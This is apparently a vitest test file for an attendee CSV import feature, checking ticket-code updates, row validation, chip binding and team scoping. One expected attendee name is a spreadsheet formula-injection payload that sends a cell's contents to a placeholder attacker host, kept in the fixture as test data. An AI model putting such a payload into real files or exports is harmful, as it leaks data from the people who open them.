import fs from 'node:fs'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { importAttendees } from '../../src/attendees/importAttendees.js'
import { BaseError } from '../../src/errors.js'
import { createStation } from '../../src/stations/stations.js'
import { type BackendGateway, createBackendGateway, metadata, queryRows, seedTeam } from '../helpers/gateway.js'
import { TOOL_EXPORTS } from './toolExports.js'

const fixtures = path.join(import.meta.dirname, '../fixtures/attendees')
const fixture = (name: string) => fs.readFileSync(path.join(fixtures, name))
const CHIP = '04A1B2C3D4E5F6'
const OTHER_CHIP = '04A1B2C3D4E5F7'
const FOREIGN_CHIP = '04F0F0F0F0F0F0'
const MAP = 'name=Guest,email=Mail,ticket=Barcode,type=Pass,chip=Wristband,wallet=Wallet'

let gw: BackendGateway
let eventId: number
let teamId: number
let otherTeamEvent: number

beforeEach(async () => {
  gw = await createBackendGateway()
  const guestbook = (name: string) => [{ name, symbol: 'GST', chainId: 31337, events: [{ name: 'Opening', tokenId: '1', metadata: metadata() }] }]
  ;({ teamId } = await seedTeam(gw, { name: 'Venue', chips: [{ uid: CHIP }, { uid: OTHER_CHIP }], guestbookContracts: guestbook('Guests') }))
  const other = await seedTeam(gw, { name: 'Other', chips: [{ uid: FOREIGN_CHIP }], guestbookContracts: guestbook('Theirs') })
  eventId = (await gw.store.guestbook.listEvents(teamId))[0]!.id
  otherTeamEvent = (await gw.store.guestbook.listEvents(other.teamId))[0]!.id
})
afterEach(() => gw.close())

const run = (input: string | Uint8Array, opts: { map?: string; teamId?: number; eventId?: number } = {}) =>
  importAttendees(gw.store, { eventId: opts.eventId ?? eventId, teamId: opts.teamId, input, map: opts.map, now: gw.clock.now })

async function failure(promise: Promise<unknown>) {
  const error = await promise.then(
    () => expect.fail('expected an error'),
    (e: unknown) => e,
  )
  if (!(error instanceof BaseError)) throw error
  return { status: error.statusCode, code: error.code, message: error.message, errors: error.errors }
}

const stored = async () =>
  (await gw.store.attendees.list(eventId, { limit: 100, offset: 0 })).attendees.map((a) => [a.ticketCode, a.name, a.ticketType]).sort()

describe('each tool\'s export imports without options', () => {
  test.each(TOOL_EXPORTS)('%s', async (file, format, count) => {
    const report = await run(fixture(file))
    expect(report).toMatchObject({ eventId, format, imported: count, inserted: count, updated: 0, chipsBound: 0 })
    expect(await gw.store.attendees.countEvent(eventId)).toBe(count)
  })
})

test('a re-import updates in place by ticket code, keeps guests the file leaves out, their check-ins and chips', async () => {
  await run(fixture('custom.csv'), { map: MAP })
  const ada = (await gw.store.attendees.findByCode(eventId, 'BC-0001'))!
  const door = await gw.store.tx((tx) => createStation(tx, { teamId, name: 'Door A', now: gw.clock.now }))
  const checkInId = await gw.store.checkIns.insert({ eventId, chipUid: null, attendeeId: ada.id, stationId: door.stationId, manual: true, now: gw.clock.now })
  expect(checkInId).not.toBeNull()

  // Ada renamed and moved to GA; BC-0002 and BC-0003 left out of the new file; a new guest; no wallet column.
  const again = await run('Guest,Barcode,Pass\nAda King,BC-0001,GA\nAlan Turing,BC-0004,VIP\n', { map: 'name=Guest,ticket=Barcode,type=Pass' })
  expect(again).toMatchObject({ imported: 2, inserted: 1, updated: 1, chipsBound: 0 })
  expect(await stored()).toEqual([
    ['BC-0001', 'Ada King', 'GA'],
    ['BC-0002', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'GA'],
    ['BC-0003', 'Grace Hopper', 'General'],
    ['BC-0004', 'Alan Turing', 'VIP'],
  ])
  const after = (await gw.store.attendees.findByCode(eventId, 'BC-0001'))!
  expect(after.id).toBe(ada.id)
  // A file without the column cannot clear what the first one set.
  expect(after).toMatchObject({ email: 'ada@example.com', wallet: '0x5FbDB2315678afecb367f032d93F642f64180aa3' })
  expect((await gw.store.checkIns.findActiveByAttendee(eventId, ada.id))?.id).toBe(checkInId)
  expect((await gw.store.attendeeChips.ofAttendee(ada.id)).map((c) => c.chipUid)).toEqual([CHIP])
})

test('the same file twice: everything updated, nothing inserted, the chip bound once', async () => {
  expect(await run(fixture('custom.csv'), { map: MAP })).toMatchObject({ inserted: 3, updated: 0, chipsBound: 1 })
  expect(await run(fixture('custom.csv'), { map: MAP })).toMatchObject({ inserted: 0, updated: 3, chipsBound: 0 })
  expect(await gw.store.attendeeChips.ofEvent(eventId)).toHaveLength(1)
})

test('one bad row among good ones: nothing imported', async () => {
  const csv = 'Guest,Barcode,Mail\nAda,A1,ada@example.com\nBob,A2,not-an-email\nCy,A3,\n'
  expect(await failure(run(csv, { map: 'name=Guest,ticket=Barcode,email=Mail' }))).toMatchObject({
    status: 400,
    code: 'csv_rows_invalid',
    errors: { 'line 3, Mail': '"not-an-email" is not an email address' },
  })
  expect(await gw.store.attendees.countEvent(eventId)).toBe(0)
})

test("a chip that is not the event team's, or is another guest's, is a row error and nothing is imported", async () => {
  await run('Guest,Barcode,Chip\nAda,A1,' + CHIP + '\n', { map: 'name=Guest,ticket=Barcode,chip=Chip' })
  const csv = `Guest,Barcode,Chip\nNew,N1,\nBob,B1,${CHIP}\nEve,E1,${FOREIGN_CHIP}\nFay,F1,04EEEEEEEEEEEE\n`
  expect(await failure(run(csv, { map: 'name=Guest,ticket=Barcode,chip=Chip' }))).toMatchInlineSnapshot(`
    {
      "code": "csv_rows_invalid",
      "errors": {
        "line 3, Chip": "Chip 04A1B2C3D4E5F6 is bound to Ada (ticket A1); rebind it at the door, or leave it out",
        "line 4, Chip": "Chip 04F0F0F0F0F0F0 is not one of this event's team's chips (register it first: tapgate import)",
        "line 5, Chip": "Chip 04EEEEEEEEEEEE is not one of this event's team's chips (register it first: tapgate import)",
      },
      "message": "3 problems with the file's chips; nothing was imported",
      "status": 400,
    }
  `)
  expect(await stored()).toEqual([['A1', 'Ada', 'General']])
})

test("another team's event, or none: 404 event_not_found before the file is read", async () => {
  expect(await failure(run('garbage', { teamId, eventId: otherTeamEvent }))).toMatchObject({ status: 404, code: 'event_not_found' })
  expect(await failure(run('garbage', { eventId: 999 }))).toMatchObject({ status: 404, code: 'event_not_found' })
  expect(Number((await queryRows<{ n: unknown }>(gw.store, 'SELECT count(*) AS n FROM attendees'))[0]!.n)).toBe(0)
})

test('skipped rows are reported with their line and reason, and a Luma wallet typed wrong is a warning', async () => {
  const luma = fs.readFileSync(path.join(fixtures, 'luma.csv'), 'utf8').replace(',usd,,,,', ',usd,,not-a-wallet,,')
  const report = await run(luma)
  expect(report.skipped).toEqual([{ line: 4, ticketCode: 'b3Yc9rTe', reason: 'approval status waitlist' }])
  expect(report.warnings).toEqual([{ line: 2, column: 'eth_address', message: '"not-a-wallet" is not a 0x address: no wallet set' }])
})
